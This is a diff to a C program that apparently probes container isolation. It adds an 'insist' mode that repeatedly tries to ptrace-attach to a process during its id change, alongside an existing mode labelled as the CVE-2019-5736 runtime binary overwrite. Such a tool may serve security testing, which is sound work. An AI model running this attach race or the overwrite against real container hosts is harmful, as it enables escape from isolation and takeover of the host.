@@ -74,6 +74,20 @@ static void spy(void)
 	fflush(stdout);
 }
 
+/* The same until it works: between two changes of ids nobody can. */
+static void insist(void)
+{
+	long result = -1;
+	while (result < 0) {
+		pid_t pid = stranger();
+		if (pid != 0)
+			result = ptrace(PTRACE_ATTACH, pid, NULL, NULL);
+		usleep(1000);
+	}
+	say("attach", result);
+	pause();
+}
+
 /* CVE-2019-5736: hold the program of the joining process by an fd, write to it when it has gone. */
 static void overwrite(void)
 {
@@ -117,6 +131,8 @@ int main(int argc, char **argv)
 	const char *what = argc > 1 ? argv[1] : "";
 	if (!strcmp(what, "spy"))
 		spy();
+	else if (!strcmp(what, "insist"))
+		insist();
 	else if (!strcmp(what, "overwrite"))
 		overwrite();
 	else if (!strcmp(what, "swap") && argc > 3)
